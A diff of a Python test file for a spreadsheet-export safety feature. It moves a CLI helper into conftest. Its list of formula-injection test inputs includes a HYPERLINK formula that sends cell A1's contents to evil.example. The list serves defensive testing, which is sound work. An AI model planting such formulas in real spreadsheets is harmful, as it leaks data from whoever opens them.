@@ -10,14 +10,13 @@ import re
 import time
 
 import pytest
-from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from undersigned.cli import cli
 from undersigned.textsafety import FORMULA_START, from_spreadsheet, spreadsheet_safe
 
 from .conftest import SLUG, letter_yaml, roster_yaml, signatory_yaml, write_workspace
+from .conftest import run_cli as run
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -29,14 +28,6 @@ FORMULAS = [
     "  =1+1 spaces first",
     "\uff1d1+1 full-width equals",
 ]
-
-
-def run(*args: str):
-    result = CliRunner().invoke(cli, list(args))
-    assert result.exception is None or isinstance(result.exception, SystemExit), (
-        result.exception)
-    assert "Traceback" not in result.output and "internal error" not in result.output
-    return result
 
 
 def roster_bytes(root) -> bytes:
